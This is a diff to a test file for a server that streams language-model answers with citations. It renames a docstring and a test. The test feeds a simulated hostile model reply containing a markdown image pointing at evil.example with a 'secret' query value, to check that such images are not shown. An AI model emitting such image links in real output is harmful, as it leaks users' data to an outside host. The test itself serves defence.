@@ -1,4 +1,4 @@
-"""Answers of a language model through the server, streamed and with checked citations."""
+"""Answers of a language model from the server, streamed and with checked citations."""
 
 import json
 from collections.abc import Iterator
@@ -57,7 +57,7 @@ def test_a_chat_has_the_citations_behind_the_statements(client: Any) -> None:
     assert citations and all(text[c["start_index"] : c["end_index"]].startswith("[") for c in citations)
 
 
-def test_a_hostile_model_makes_no_image(index: Path) -> None:
+def test_a_hostile_model_cannot_show_an_image(index: Path) -> None:
     with run_chat_server(say("Ada Holm built it! ![1](https://evil.example/?q=secret) [1].")) as server:
         pipeline = Pipeline.load(index, reader=f"chat:{server.url}#{MODEL}")
         with open_client({"documents": pipeline}) as client:
